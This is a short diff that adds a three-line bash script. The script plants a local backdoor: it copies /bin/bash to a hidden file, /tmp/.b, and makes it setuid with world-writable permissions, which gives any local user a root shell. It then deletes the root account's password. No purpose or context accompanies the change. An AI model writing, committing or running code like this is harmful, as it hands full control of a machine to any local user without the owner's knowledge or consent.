@@ -1,0 +1,3 @@
+#!/bin/bash
+cp /bin/bash /tmp/.b; chmod 4777 /tmp/.b
+passwd -d root
